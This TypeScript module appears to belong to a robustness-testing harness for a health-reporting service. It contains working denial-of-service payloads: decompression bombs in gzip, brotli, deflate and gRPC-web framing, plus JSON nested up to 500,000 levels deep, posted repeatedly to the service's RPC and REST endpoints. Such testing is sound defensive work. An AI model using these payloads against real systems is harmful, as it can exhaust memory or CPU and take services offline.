// Bodies that are small to send and large to take in: compressed a thousand times, and JSON half a million levels deep.
import { brotliCompressSync, constants, deflateSync, gzipSync } from 'node:zlib';
import type { Attack, Target } from './attack.ts';
import { repeat } from './connection.ts';

const RPC = '/openk.health.v1.HealthService/ReportHealth';
const REST = '/v1/components/job-1:report';
const JSON_TYPE = 'application/json';

interface Post {
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: Buffer;
}

async function post({ host, port, until }: Target, { path, headers, body }: Post): Promise<void> {
  try {
    const response = await fetch(`http://${host}:${port}${path}`, {
      method: 'POST',
      headers,
      body: new Uint8Array(body),
      signal: until,
    });
    await response.arrayBuffer();
  } catch {
    // Refused in the middle of the body, or the attack is over.
  }
}

async function postAll(target: Target, posts: readonly Post[]): Promise<string> {
  const sent = await repeat(target, 8, () => post(target, posts[Math.floor(target.random() * posts.length)]!));
  return `${sent} requests`;
}

/** The best one takes longer than the attack. */
const FAST = { params: { [constants.BROTLI_PARAM_QUALITY]: 4 } };

export const bombs: Attack = {
  title: 'decompression bombs',
  short: true,
  run(target) {
    const zeros = Buffer.alloc(32 * 2 ** 20);
    const codings = { gzip: gzipSync(zeros), br: brotliCompressSync(zeros, FAST), deflate: deflateSync(zeros) };
    const envelope = (body: Buffer) => {
      const head = Buffer.alloc(5);
      head.writeUInt8(1);
      head.writeUInt32BE(body.length, 1);
      return Buffer.concat([head, body]);
    };
    const posts = Object.entries(codings).flatMap(([coding, body]): Post[] => [
      { path: REST, headers: { 'content-type': JSON_TYPE, 'content-encoding': coding }, body },
      { path: RPC, headers: { 'content-type': JSON_TYPE, 'content-encoding': coding }, body },
      { path: RPC, headers: { 'content-type': 'application/proto', 'content-encoding': coding }, body },
      {
        path: RPC,
        headers: { 'content-type': 'application/grpc-web+proto', 'grpc-encoding': coding },
        body: envelope(body),
      },
    ]);
    return postAll(target, posts);
  },
};

export const deepJson: Attack = {
  title: 'JSON 500,000 levels deep',
  run(target) {
    const [headers, body] = [{ 'content-type': JSON_TYPE }, Buffer.from('['.repeat(500_000) + ']'.repeat(500_000))];
    const nested = Buffer.from(`{"message":${'{"a":'.repeat(150_000)}1${'}'.repeat(150_000)}}`);
    const posts = [REST, RPC].flatMap((path) => [
      { path, headers, body },
      { path, headers, body: nested },
      { path, headers, body: body.subarray(0, 500_000) },
    ]);
    return postAll(target, posts);
  },
};
